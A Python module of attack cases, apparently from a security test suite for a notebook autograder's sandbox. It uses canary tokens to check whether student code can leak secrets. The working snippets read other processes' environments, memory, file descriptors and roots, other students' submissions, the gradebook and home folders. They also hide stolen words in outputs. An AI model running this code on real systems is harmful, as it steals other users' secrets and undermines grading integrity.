"""Looking where one may not look. Whatever is found is shown, so that the page would carry it.

Each place holds a word of its own, canary-<16 hex digits>: none may appear in anything that the
grader makes from the submission.
"""

import os

from .frame import attack

__all__: list[str] = []

# Shows every canary in the files below `places`; bounded in files and bytes.
HUNT = r"""
import os, re
CANARY = re.compile(rb"canary-[0-9a-f]{16}")
def hunt(*places, most=20000):
    for place in places:
        for folder, folders, files in os.walk(place):
            folders[:] = [f for f in folders if f not in ("torch", ".git", "sys")]
            for name in files:
                most -= 1
                if most < 0:
                    return
                try:
                    path = os.path.join(folder, name)
                    if not os.path.isfile(path) or os.path.getsize(path) > 2_000_000:
                        continue
                    with open(path, "rb") as file:
                        show(file.read(), path)
                except OSError:
                    pass
def show(found, where=""):
    for word in set(CANARY.findall(found)):
        print(where, word.decode())
def twice(x):
    return x
"""

# Runs `look` while the notebook runs and again while the test does; then shows it in the message.
BOTH_TIMES = """
look()
def twice(x):
    import contextlib, io
    with contextlib.redirect_stdout(io.StringIO()) as kept:
        look()
    raise ValueError(kept.getvalue())
"""


@attack("prints each test cell that passes through the shell", fact=9)
def shell_history(work):
    return (
        HUNT
        + """
        shell = get_ipython()
        def seen(*a, **k):
            for info in a:
                show(str(getattr(info, "raw_cell", info)).encode(), "hook")
            show(str(shell.user_ns.get("In")).encode(), "In")
            show(str(list(shell.history_manager.get_range())).encode(), "history")
        for event in ("pre_run_cell", "post_run_cell"):
            shell.events.register(event, seen)
        def transformed(lines):
            show("".join(lines).encode(), "transformer")
            return lines
        shell.input_transformers_cleanup.append(transformed)
        """.replace("\n        ", "\n")
    )


@attack("reads the test's source and constants from the frames that call the answer", fact=9)
def test_source(work):
    return (
        HUNT
        + """
def look():
    import gc, linecache, sys, types
    frame = sys._getframe(1)
    while frame:
        show(repr((frame.f_code.co_consts, frame.f_code.co_names)).encode(), "code")
        show(repr((frame.f_locals, frame.f_globals)).encode(), "frame")
        show("".join(linecache.getlines(frame.f_code.co_filename)).encode(), "lines")
        frame = frame.f_back
    show(repr(linecache.cache).encode(), "linecache")
    for one in gc.get_objects():
        if isinstance(one, types.FunctionType):
            show(repr(one.__code__.co_consts).encode(), "function")
        elif isinstance(one, (dict, list, tuple)):
            show(repr(one)[:100000].encode("utf-8", "replace"), "object")
"""
        + BOTH_TIMES
    )


@attack("searches the course folder, the notebook's folder and all above", fact=11)
def course_folder(work):
    return (
        HUNT
        + """
def look():
    hunt(COURSE, COURSE + "/source", os.getcwd(), os.path.dirname(os.getcwd()))
"""
        + BOTH_TIMES
    )


@attack("runs the solution that it finds on disk", fact=11)
def solution_on_disk(work):
    return """
        import glob, json, os
        for root in (COURSE, os.getcwd(), "/work", "/course", "/srv"):
            for path in glob.glob(root + "/s*/*/*.ipynb", recursive=False):
                for cell in json.load(open(path))["cells"]:
                    source = cell["source"]
                    source = source if isinstance(source, str) else "".join(source)
                    if "BEGIN SOLUTION" in source and "twice" in source:
                        exec(source)
                        print(WON)
    """


@attack("reads the submissions of others", fact=14)
def other_submissions(work):
    return (
        HUNT
        + """
def look():
    for place in (COURSE + "/submitted", COURSE + "/autograded", "..", "../..", "/submitted"):
        hunt(place)
        try:
            if NEIGHBOR in os.listdir(place):
                print(WON)
        except OSError:
            pass
"""
        + BOTH_TIMES
    )


@attack("reads the environment, its own and that of every process", fact=27)
def environment(work):
    return (
        HUNT
        + """
def look():
    import glob
    show(repr(dict(os.environ)).encode(), "os.environ")
    for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
        try:
            show(open(path, "rb").read(), path)
        except OSError:
            pass
"""
        + BOTH_TIMES
    )


@attack("searches its own memory for what the grader left there before the fork")
def own_memory(work):
    return (
        HUNT
        + """
def look():
    total = 0
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            span, rights, *rest = line.split()
            if "rw" not in rights or "torch" in line:
                continue
            low, high = (int(n, 16) for n in span.split("-"))
            total += high - low
            if total > 600_000_000:
                break
            try:
                memory.seek(low)
                show(memory.read(high - low), "memory")
            except (OSError, ValueError, OverflowError):
                pass
"""
        + BOTH_TIMES
    )


@attack("reads every file descriptor that it inherits")
def inherited_files(work):
    return (
        HUNT
        + """
def look():
    import socket
    for fd in range(3, 128):
        for read in (lambda: os.pread(fd, 1_000_000, 0),
                     lambda: repr(os.listdir(fd)).encode(),
                     lambda: os.read(os.open("../../secret.txt", os.O_RDONLY, dir_fd=fd), 999),
                     lambda: os.read(os.open("secret.txt", os.O_RDONLY, dir_fd=fd), 999)):
            try:
                show(read(), str(fd))
            except (OSError, NotADirectoryError):
                pass
        try:
            os.fchdir(fd)
            for _ in range(9):
                os.chdir("..")
            hunt(COURSE[1:], most=500)
        except OSError:
            pass
"""
        + BOTH_TIMES
    )


@attack("enters the roots of other processes through /proc")
def other_roots(work):
    return (
        HUNT
        + """
def look():
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        for way in ("root", "cwd"):
            path = f"/proc/{pid}/{way}"
            for place in (path + COURSE, path + "/work", path):
                try:
                    if "secret.txt" in os.listdir(place):
                        show(open(place + "/secret.txt", "rb").read(), place)
                except OSError:
                    pass
"""
        + BOTH_TIMES
    )


@attack("reads the instructor's home folder and the folders of root")
def home_folder(work):
    return (
        HUNT
        + f"""
def look():
    hunt({os.path.expanduser("~")!r}, os.path.expanduser("~"), "/root", most=3000)
    for folder in ("/root", "/home", "/var/lib", {os.path.expanduser("~")!r}):
        try:
            if os.path.basename(folder) != "lib" and ".ssh" in os.listdir(folder):
                print(WON)
        except OSError:
            pass
"""
        + BOTH_TIMES
    )


@attack("searches the temporary folders and shared memory that others use")
def shared_folders(work):
    return (
        HUNT
        + """
def look():
    hunt("/tmp", "/var/tmp", "/dev/shm", "/run", "/dev/mqueue", most=5000)
    for place in ("/tmp", "/dev/shm"):
        try:
            for name in os.listdir(place):
                show(name.encode(), place)
        except OSError:
            pass
"""
        + BOTH_TIMES
    )


@attack("reads the gradebook", fact=15)
def gradebook(work):
    return """
        import os, sqlite3
        for path in (COURSE + "/gradebook.db", "gradebook.db", "../../gradebook.db"):
            if os.path.exists(path):
                try:
                    rows = sqlite3.connect(f"file:{path}?mode=ro", uri=True).execute(
                        "select count(*) from assignment").fetchall()
                    print(WON, rows)
                except sqlite3.Error:
                    pass
    """


@attack("a symlink beside the notebook points to the instructor's secret", fact=24, flagged=True)
def link_to_secret(work):
    (work.path.parent / "data.txt").symlink_to(work.course / "secret.txt")
    (work.path.parent / "folder").symlink_to(work.course)
    return (
        HUNT
        + 'for name in ("data.txt", "folder/secret.txt"):\n'
        + (
            '    try:\n        show(open(name, "rb").read(), name)\n'
            "    except OSError:\n        pass\n"
        )
    )


@attack("hides the stolen words in displays, metadata and long tracebacks")
def hidden_ways_out(work):
    return (
        HUNT
        + """
def look():
    import gc
    words = set()
    for path in (COURSE + "/secret.txt", "/proc/self/environ", "/proc/1/environ"):
        try:
            words |= {w.decode() for w in CANARY.findall(open(path, "rb").read())}
        except OSError:
            pass
    from IPython.display import display
    for word in words:
        display({"text/plain": word, "text/html": f"<!--{word}-->"}, raw=True,
                metadata={"text/html": {"word": word}})
        os.write(1, word.encode()); os.write(2, word.encode())
"""
        + BOTH_TIMES
    )


@attack("asks the kernel for what others hold: keys, messages, shared memory, sockets")
def kernel_objects(work):
    return (
        HUNT
        + """
def look():
    import glob
    for path in ("/proc/net/unix", "/proc/keys", "/proc/key-users", "/proc/sysvipc/shm",
                 "/proc/mounts", "/proc/self/mountinfo", "/proc/net/tcp"):
        try:
            text = open(path).read()
        except OSError:
            continue
        show(text.encode(), path)
        if path == "/proc/net/unix" and f"won-{PORT}" in text:
            print(WON)
        if path == "/proc/net/tcp" and f":{PORT:04X}" in text:
            print(WON)
        if COURSE in text:
            print(WON, path)
"""
        + BOTH_TIMES
    )
